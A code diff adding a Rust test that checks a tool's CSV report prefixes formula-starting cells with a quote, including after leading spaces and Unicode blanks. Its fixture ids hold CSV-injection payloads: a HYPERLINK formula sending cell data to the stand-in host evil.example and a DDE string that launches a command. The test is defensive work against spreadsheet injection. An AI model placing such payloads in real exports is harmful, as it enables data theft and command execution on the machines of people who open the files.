@@ -1681,3 +1681,69 @@ fn csv_keeps_the_ids_as_read() {
         "{rows:?}"
     );
 }
+
+// Spreadsheets trim leading white space on import (Google Sheets always, LibreOffice Calc with
+// "Trim spaces"): a cell whose first character after spaces, no-break spaces or other Unicode
+// blanks starts a formula is prefixed with `'` too, the id cells included, and an id that quotes
+// such an id in its message or excerpt (IN002) as well.
+#[test]
+fn csv_neutralises_a_formula_after_leading_white_space() {
+    let dir = tempfile::tempdir().unwrap();
+    let ids = [
+        "  =HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+        "\u{a0}@SUM(1+1)*cmd|' /C calc'!A0",
+        "\u{3000}+33",
+        "=plain",
+        "  plain",
+    ];
+    let mut lines: Vec<String> = ids
+        .iter()
+        .map(|id| json!({"id": id, "text": "x"}).to_string())
+        .collect();
+    // A duplicate of the first: IN002 quotes its id.
+    lines.push(json!({"id": ids[0], "text": "y"}).to_string());
+    let path = corpus(dir.path(), &lines);
+    let out = vigie()
+        .arg(&path)
+        .args([
+            "--as-of",
+            "2026-11-22T12:00:00Z",
+            "--report",
+            "csv",
+            "--quiet",
+        ])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    let mut rd = csv::Reader::from_reader(&out.stdout[..]);
+    let header = rd.headers().unwrap().clone();
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let (rule, id) = (col("rule"), col("record_id"));
+    let rows: Vec<csv::StringRecord> = rd.records().map(Result::unwrap).collect();
+    let ids_shown: Vec<&str> = rows
+        .iter()
+        .filter(|r| &r[rule] == "INT007")
+        .map(|r| &r[id])
+        .collect();
+    assert_eq!(
+        ids_shown,
+        [
+            "'  =HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+            "'\u{a0}@SUM(1+1)*cmd|' /C calc'!A0",
+            "'\u{3000}+33",
+            "'=plain",
+            "  plain",
+            "'  =HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+        ]
+    );
+    // No cell of the file, trimmed as a spreadsheet trims it, starts a formula.
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['\t', '\r'])
+                    && !cell.trim_start().starts_with(['=', '+', '-', '@']),
+                "{cell:?}"
+            );
+        }
+    }
+}
